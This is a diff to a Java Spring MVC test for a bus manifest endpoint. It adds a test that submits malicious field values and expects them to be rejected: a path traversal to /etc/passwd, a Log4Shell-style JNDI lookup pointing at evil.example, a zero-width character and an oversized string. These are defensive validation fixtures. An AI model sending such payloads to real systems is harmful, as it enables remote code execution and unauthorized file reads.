@@ -6,7 +6,7 @@ import java.util.List;
 
 import org.homecoming.events.transport.BusManifestRegistered;
 import org.homecoming.platform.web.InvalidRequestException;
-import org.homecoming.platform.web.ProblemResponses;
+import org.homecoming.platform.web.WebInputRules;
 import org.homecoming.platform.web.Violation;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
@@ -30,7 +30,7 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 
 @WithMockUser(username = "transport-officer-1", roles = {Roles.TRANSPORT_OFFICER, Roles.RECEPTION_STAFF})
 @WebMvcTest(ManifestController.class)
-@Import(ProblemResponses.class)
+@Import(WebInputRules.class)
 class ManifestControllerTest {
 
     static final String VALID = """
@@ -80,5 +80,16 @@ class ManifestControllerTest {
                 .andExpect(status().isBadRequest())
                 .andExpect(jsonPath("$.errors", hasSize(2)))
                 .andExpect(jsonPath("$.errors[1].reason").value("person p-2 already rides bus bus-7 in round round-1"));
+    }
+
+    @Test
+    void shouldRefuseIdsThatAreNoIds() throws Exception {
+        mvc.perform(post("/api/v1/buses").contentType(MediaType.APPLICATION_JSON).content("""
+                        {"busId": "../../etc/passwd", "roundId": "round-1", "personIds": ["p-1\u200B", "%s"],
+                         "origin": "gomel-assembly-point", "receptionPoint": "${jndi:ldap://evil.example/a}"}""".formatted("p".repeat(10_000))))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("busId", "personIds[0]", "personIds[1]", "receptionPoint")));
+
+        verify(registration, never()).register(any());
     }
 }
